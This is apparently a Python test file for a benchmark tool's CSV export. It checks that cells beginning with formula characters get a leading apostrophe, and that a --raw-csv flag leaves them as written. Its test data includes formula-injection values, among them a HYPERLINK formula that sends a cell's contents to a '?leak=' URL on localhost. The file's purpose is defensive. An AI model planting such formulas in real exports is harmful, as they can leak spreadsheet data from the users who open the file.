"""`export --format csv` is safe to open in a spreadsheet: a text cell beginning with =, +, -, @, a tab
or a CR gets a leading `'` (OWASP's rule against formula injection); `--raw-csv` writes cells as they
are. Before: task ids `=1+1`, `@SUM(A1)`, `+cmd` and an answer `=HYPERLINK(...)` were written as is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import yaml

from corral_core import report
from tests.inprocess import run_cli

HOSTILE_IDS = ["=1+1", "@SUM(A1)", "+cmd", "-2+3"]
LINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click me")'


def test_formula_cells_are_neutralised_and_raw_csv_keeps_them(tmp_path: Path) -> None:
    suite = {"name": "formulas", "scoring": {"type": "exact"},
             "tasks": [{"id": task_id, "prompt": "Answer.", "answer": "x"} for task_id in HOSTILE_IDS]}
    (tmp_path / "formulas.yaml").write_text(yaml.safe_dump(suite))
    (tmp_path / "formulas.script.yaml").write_text(yaml.safe_dump(
        {"default": {"react": [f"<final_answer>{LINK}</final_answer>"]}}))
    spec = {"name": "formulas", "suite": "formulas.yaml", "tasks": HOSTILE_IDS, "trials_per_task": 1,
            "model": f"scripted/{tmp_path / 'formulas.script.yaml'}"}
    (tmp_path / "f.bench.yaml").write_text(yaml.safe_dump(spec))
    db = str(tmp_path / "f.db")
    run = run_cli("--batch", "f.bench.yaml", "--db", db, "--json", "out.json", "--quiet", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    benchmark = json.loads((tmp_path / "out.json").read_text())["benchmark_id"]
    safe = run_cli("export", benchmark, "--format", "csv", "--db", db, cwd=tmp_path)
    raw = run_cli("export", benchmark, "--format", "csv", "--raw-csv", "--db", db, cwd=tmp_path)
    assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
    safe_rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    raw_rows = list(csv.DictReader(io.StringIO(raw.stdout)))
    assert sorted(r["task_id"] for r in safe_rows) == sorted("'" + task_id for task_id in HOSTILE_IDS)
    assert {r["answer"] for r in safe_rows} == {"'" + LINK}
    cells = [cell for row in safe_rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(report.FORMULA_STARTS)]
    assert sorted(r["task_id"] for r in raw_rows) == sorted(HOSTILE_IDS) and {r["answer"] for r in raw_rows} == {LINK}
    refused = run_cli("export", benchmark, "--raw-csv", "--db", db, cwd=tmp_path)
    assert refused.returncode == 2 and "--raw-csv needs --format csv" in refused.stderr


def test_the_in_memory_csv_writer_follows_the_same_rule() -> None:
    row = {"task_id": "@x", "answer": "\tcmd", "error": "-1+2", "score": -0.5, "arm": "plain-name"}
    [written] = list(csv.DictReader(io.StringIO(report.trials_csv([row]), newline="")))
    assert (written["task_id"], written["answer"], written["error"]) == ("'@x", "'\tcmd", "'-1+2")
    assert report.spreadsheet_safe("\r=1") == "'\r=1" and report.spreadsheet_safe(-3) == -3
    assert written["score"] == "-0.5" and written["arm"] == "plain-name"  # numbers and plain text unchanged
